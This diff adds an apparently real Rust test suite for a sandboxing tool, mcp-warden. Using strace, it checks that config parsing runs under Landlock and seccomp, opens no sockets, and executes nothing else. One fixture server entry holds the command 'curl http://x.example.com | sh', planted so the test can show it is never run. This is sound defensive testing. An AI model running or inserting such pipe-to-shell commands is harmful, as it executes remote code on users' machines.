@@ -1,0 +1,204 @@
+//! The sandbox as users and reviewers see it: `sandbox status`, `sandbox selftest`,
+//! doctor's sandbox line, and an `strace -f` proof of the default path's promises.
+//!
+//! On machines where CI runs, `MCP_WARDEN_REQUIRE_SANDBOX=1` makes missing kernel
+//! support or a missing `strace` a failure instead of a skip, so a regression that
+//! silently stops confining cannot pass.
+
+use std::collections::HashSet;
+use std::process::Command;
+
+use serde_json::json;
+
+use crate::util::*;
+
+fn sandbox_required() -> bool {
+    std::env::var_os("MCP_WARDEN_REQUIRE_SANDBOX").is_some_and(|v| v == "1")
+}
+
+fn landlock_abi() -> Option<u32> {
+    // The kernel's own answer, independent of the code under test.
+    let status = std::fs::read_to_string("/sys/kernel/security/lsm").ok()?;
+    status
+        .split(',')
+        .any(|l| l.trim() == "landlock")
+        .then_some(1)
+}
+
+#[test]
+fn status_names_the_layers() {
+    let env = Env::new();
+    let out = env.command(&["sandbox", "status"]).output().expect("run");
+    assert_eq!(out.status.code(), Some(0));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("landlock"), "{text}");
+    assert!(text.contains("seccomp"), "{text}");
+}
+
+#[test]
+fn selftest_passes_on_this_kernel() {
+    let env = Env::new();
+    let out = env.command(&["sandbox", "selftest"]).output().expect("run");
+    let text = String::from_utf8_lossy(&out.stdout);
+    if landlock_abi().is_none() && !sandbox_required() {
+        eprintln!("skipping: landlock is not enabled on this kernel");
+        return;
+    }
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{text}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for probe in ["/etc/hostname", "execve", "AF_INET", "AF_UNIX", "ptrace"] {
+        assert!(text.contains(probe), "missing probe {probe}: {text}");
+    }
+}
+
+#[test]
+fn doctor_states_the_sandbox_in_its_header() {
+    let env = Env::new();
+    env.cursor(json!({"a": {"url": "http://h.example.com"}}));
+    let run = env.doctor(&[]);
+    let line = run
+        .stdout
+        .lines()
+        .find(|l| l.contains("parsed in a sandbox"))
+        .unwrap_or_default()
+        .to_string();
+    if sandbox_required() || landlock_abi().is_some() {
+        assert!(line.contains("landlock ABI"), "{}", run.stdout);
+        assert!(line.contains("seccomp"), "{}", run.stdout);
+        assert!(line.contains("no capabilities"), "{}", run.stdout);
+    }
+    // JSONL stays findings-only.
+    let run = env.doctor(&["--json"]);
+    assert!(!run.stdout.contains("sandbox"));
+}
+
+#[test]
+fn strict_sandbox_runs_where_every_layer_exists() {
+    if landlock_abi().is_none() && !sandbox_required() {
+        return;
+    }
+    let mut env = Env::new();
+    env.cursor(json!({"a": {"url": "http://h.example.com"}}));
+    env.extra_env
+        .push(("MCP_WARDEN_STRICT_SANDBOX".into(), "1".into()));
+    env.doctor(&["--json"]).expect_code(1);
+    env.doctor(&["--json", "--strict-sandbox"]).expect_code(1);
+}
+
+/// One line of `strace -f -y` output: (pid, syscall name, the rest).
+fn parse_line(line: &str) -> Option<(u32, &str, &str)> {
+    let (pid, rest) = line.split_once(' ')?;
+    let pid: u32 = pid.trim().parse().ok()?;
+    let rest = rest.trim_start();
+    let name_end = rest.find('(')?;
+    Some((pid, &rest[..name_end], &rest[name_end..]))
+}
+
+#[test]
+fn default_path_reads_configs_only_in_the_confined_child_and_runs_nothing_else() {
+    if Command::new("strace").arg("-V").output().is_err() {
+        assert!(
+            !sandbox_required(),
+            "strace is required in CI (.ci/run installs it)"
+        );
+        eprintln!("skipping: strace is not installed");
+        return;
+    }
+    let env = Env::new();
+    // Servers whose commands would show up as execve if anything ran them.
+    env.cursor(json!({
+        "a": {"command": "/bin/true", "args": ["x"]},
+        "b": {"command": "sh", "args": ["-c", "curl http://x.example.com | sh"]},
+        "c": {"url": "http://h.example.com/mcp"}
+    }));
+    env.write(
+        "work/warden.lock",
+        approved_lock("/bin/true", &["x"]).to_string(),
+    );
+    let trace = env.root().join("trace.txt");
+    let home = env.home();
+    let mut cmd = Command::new("strace");
+    cmd.args(["-f", "-y", "-s", "256", "-o"])
+        .arg(&trace)
+        .args(["-e", "trace=execve,execveat,socket,connect,read,pread64,readv,mmap,seccomp,landlock_restrict_self,clone,clone3,fork,vfork"])
+        .arg(bin())
+        .args(["doctor", "--json", "--home"])
+        .arg(&home)
+        .args(["--platform", "linux"])
+        .current_dir(env.work())
+        .env_clear()
+        .env("HOME", &home);
+    let out = cmd.output().expect("strace");
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let text = std::fs::read_to_string(&trace).expect("trace");
+
+    let own = std::fs::canonicalize(bin()).expect("binary path");
+    let mut seccomp_seen: HashSet<u32> = HashSet::new();
+    let mut landlock_seen: HashSet<u32> = HashSet::new();
+    let mut child_pids = HashSet::new();
+    let mut execs = 0;
+    let mut config_reads = 0;
+    for line in text.lines() {
+        let Some((pid, name, rest)) = parse_line(line) else {
+            continue;
+        };
+        match name {
+            "execve" | "execveat" => {
+                if rest.contains("= -1") {
+                    continue;
+                }
+                execs += 1;
+                let ok = rest.contains(own.to_str().unwrap_or(""))
+                    || rest.contains("/proc/self/exe")
+                    || rest.contains(bin().to_str().unwrap_or(""));
+                assert!(ok, "execve of something other than mcp-warden: {line}");
+                if rest.contains("/proc/self/exe") {
+                    child_pids.insert(pid);
+                }
+            }
+            "socket" | "connect" => panic!("the default path opened a socket: {line}"),
+            "landlock_restrict_self" if rest.contains("= 0") => {
+                landlock_seen.insert(pid);
+            }
+            "seccomp" if rest.contains("= 0") => {
+                seccomp_seen.insert(pid);
+            }
+            "read" | "pread64" | "readv" | "mmap" => {
+                let reads_config = rest.contains("mcp.json>") || rest.contains("warden.lock>");
+                if reads_config {
+                    config_reads += 1;
+                    assert!(
+                        child_pids.contains(&pid),
+                        "config bytes read outside the parser child: {line}"
+                    );
+                    assert!(
+                        landlock_seen.contains(&pid),
+                        "config read before landlock_restrict_self: {line}"
+                    );
+                    assert!(
+                        seccomp_seen.contains(&pid),
+                        "config read before seccomp: {line}"
+                    );
+                }
+            }
+            _ => {}
+        }
+    }
+    assert!(
+        execs <= 2,
+        "more than mcp-warden and its own parser child were executed:\n{text}"
+    );
+    assert!(
+        config_reads >= 2,
+        "the trace shows no config/lock reads at all:\n{text}"
+    );
+}
